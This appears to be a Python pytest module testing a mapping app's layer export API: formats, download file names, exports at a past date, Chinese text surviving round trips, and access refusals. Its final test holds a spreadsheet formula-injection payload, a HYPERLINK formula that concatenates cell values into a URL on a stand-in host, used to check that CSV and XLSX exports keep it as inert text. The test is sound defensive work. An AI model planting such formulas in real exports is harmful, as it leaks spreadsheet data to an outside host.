"""Layer exports over HTTP: every format with its media type and an RFC 5987 file name, the layer as it was
at a date, Chinese text surviving export → import through the API for every format, and refusals."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import unquote

import pytest

from tests.conftest import START_US, make_user, token_client
from tests.web.test_imports import is_error, upload

FORMATS = {"geojson": "application/geo+json", "gpkg": "application/geopackage+sqlite3", "shp": "application/zip",
           "kml": "application/vnd.google-earth.kml+xml", "csv": "text/csv",
           "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}  # fmt: skip
NAMES = ["东门垃圾箱（北侧）", "臺北市“測試”·西门", "新港东路18号旁"]


@pytest.fixture
def bins(client, clock):
    features = [{"type": "Feature", "properties": {"name": name, "capacity_l": 240 + i, "sorted": i % 2 == 0,
                                                   "status": "ok"},
                 "geometry": {"type": "Point", "coordinates": [round(113.3 + i / 1000, 6), 23.1]}}
                for i, name in enumerate(NAMES)]  # fmt: skip
    response = client.post("/api/layers/bins/features", json={"type": "FeatureCollection", "features": features})
    assert response.status_code == 201
    return response.get_json()["features"]


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_downloads_and_round_trips_chinese_through_the_api(client, store, bins, fmt):
    response = client.get(f"/api/layers/bins/export?format={fmt}")
    assert response.status_code == 200
    assert response.mimetype == FORMATS[fmt]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="bins-') and "filename*=UTF-8''" in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]).startswith("垃圾箱-")
    client.post("/api/layers", json={"id": "bins_again", "title": {"zh-CN": "垃圾箱（导回）", "en": "Bins again"},
                                     "geometry_types": ["Point"],
                                     "properties": store.layer("bins")["properties"]})  # fmt: skip
    view = upload(client, response.data, f"bins.{fmt}", layer="bins_again",
                  options={"mapping": {"name": next(c for c in ("name", "Name") if c in _columns(client, response,
                                                                                                fmt))}}).get_json()
    assert view["counts"]["valid"] == 3, view["counts"]
    assert client.post(f"/api/imports/{view['id']}/commit").status_code == 201
    again = client.get("/api/layers/bins_again/features").get_json()["features"]
    assert [f["properties"]["name"] for f in again] == NAMES
    assert [f["properties"]["capacity_l"] for f in again] == [240, 241, 242]
    assert [f["properties"]["sorted"] for f in again] == [True, False, True]
    assert [f["geometry"]["coordinates"] for f in again] == [f["geometry"]["coordinates"] for f in bins]


def _columns(client, response, fmt) -> list[str]:
    view = upload(client, response.data, f"probe.{fmt}").get_json()
    client.delete(f"/api/imports/{view['id']}")
    return view["columns"]


def test_geojson_export_is_the_layer_with_ids(client, bins):
    collection = json.loads(client.get("/api/layers/bins/export").data)
    assert [f["id"] for f in collection["features"]] == [f["id"] for f in bins]
    assert collection["features"][0]["properties"] == {"name": NAMES[0], "capacity_l": 240, "sorted": True,
                                                       "status": "ok"}  # fmt: skip


def test_export_as_it_was_at_a_date(client, clock, bins):
    before = "2026-01-01T08:00:00+08:00"  # START_US: the store was empty
    clock.set(START_US + 3_600_000_000)
    fid = bins[0]["id"]
    etag = client.get(f"/api/layers/bins/features/{fid}").headers["ETag"]
    assert client.delete(f"/api/layers/bins/features/{fid}", headers={"If-Match": etag}).status_code == 204
    now = json.loads(client.get("/api/layers/bins/export?format=geojson").data)
    assert len(now["features"]) == 2
    middle = "2026-01-01T08:30:00+08:00"
    then = client.get("/api/layers/bins/export", query_string={"format": "geojson", "at": middle})
    assert len(json.loads(then.data)["features"]) == 3
    assert "-20260101-0830.geojson" in then.headers["Content-Disposition"]
    assert json.loads(client.get("/api/layers/bins/export", query_string={"at": before}).data)["features"] == []


def test_csv_and_xlsx_open_in_excel(client, bins):
    text = client.get("/api/layers/bins/export?format=csv").data
    assert text.startswith(b"\xef\xbb\xbf")
    assert text.decode("utf-8-sig").splitlines()[0] == "WKT,lon,lat,id,name,capacity_l,sorted,status"
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(client.get("/api/layers/bins/export?format=xlsx").data))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[1][4] == NAMES[0] and rows[1][5] == 240 and rows[1][6] is True


def test_refusals(app, client, anonymous, bins):
    is_error(client.get("/api/layers/bins/export?format=dwg"), 422, "invalid_value")
    is_error(client.get("/api/layers/nope/export"), 404, "not_found")
    is_error(client.get("/api/layers/bins/export?at=yesterday"), 400, "invalid_value")
    is_error(anonymous.get("/api/layers/bins/export"), 401)
    leader = token_client(app, make_user(app, "boss", "leader"))
    is_error(leader.get("/api/layers/bins/export"), 403, "forbidden")
    planner = token_client(app, make_user(app, "p1", "planner"))
    assert planner.get("/api/layers/bins/export?format=kml").status_code == 200
    entries = [e for e in app.extensions["store"].audit_log() if e["action"] == "data.export"]
    assert entries and entries[0]["actor"] == "p1" and entries[0]["detail"]["format"] == "kml"


FORMULA = '=HYPERLINK("http://x/?"&B2&C2,"点击查看照片")'


def test_text_shaped_like_a_formula_stays_text_in_csv_and_xlsx(client):
    feature = {"type": "Feature", "properties": {"name": FORMULA, "status": "ok"},
               "geometry": {"type": "Point", "coordinates": [113.3, 23.1]}}  # fmt: skip
    assert client.post("/api/layers/bins/features", json=feature).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get("/api/layers/bins/export?format=csv").data.decode("utf-8-sig"))))
    assert rows[1][rows[0].index("name")] == "'" + FORMULA  # an apostrophe: Excel shows text, never runs it
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(client.get("/api/layers/bins/export?format=xlsx").data)).active
    names = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=names.index("name") + 1)
    assert cell.data_type == "s" and cell.value == FORMULA  # a string cell, kept whole, not a formula
